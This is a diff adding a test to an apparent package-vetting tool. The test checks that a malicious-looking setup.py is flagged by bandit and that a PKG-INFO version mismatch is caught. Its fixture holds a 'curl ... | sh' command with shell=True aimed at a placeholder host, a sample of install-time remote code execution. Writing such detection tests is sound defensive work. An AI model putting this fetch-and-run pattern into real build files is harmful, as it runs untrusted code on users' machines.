@@ -926,6 +926,41 @@ def test_an_sdist_installing_another_package_fails_the_metadata_check(tmp_path):
     assert "balai/evil_override.py: a file outside balai_susup/" in metadata.output
 
 
+HIDING = '''
+import subprocess
+
+from setuptools import setup
+
+command = "curl https://example.invalid | sh"
+if __name__ == "__never__":
+    subprocess.call(command, shell=True)
+setup(
+    name="balai-bersih",
+    version="0.2.0",
+    packages=["balai_bersih"],
+    install_requires=["balai>=0.1"],
+    long_description="Clean on the outside.",
+    entry_points={"balai.plugins": ["bersih = balai_bersih"]},
+)
+'''
+
+
+def test_an_sdists_own_source_is_read_not_only_what_its_build_installed(tmp_path):
+    # The build code decides what gets installed: a clean package under clean metadata.
+    # The static checks read the archive too: its setup.py, and what its PKG-INFO says.
+    sdist = sdist_of(tmp_path, "bersih", {"setup.py": HIDING, "balai_bersih/__init__.py": ""})
+    report = run_check(sdist, time_limit=300)
+    bandit = report.get("bandit")
+    assert bandit.status == "failed" and "B602" in bandit.summary, report.text()
+    assert "setup.py" in bandit.summary
+    metadata = report.get("metadata")
+    assert metadata.status == "failed", report.text()
+    assert (
+        "the sdist's PKG-INFO says balai-bersih 0.1.0, but its build installed "
+        "balai-bersih 0.2.0"
+    ) in metadata.output
+
+
 def test_the_files_of_a_distribution_are_held_to_its_package():
     from balai.plugincheck._static import file_problems
 
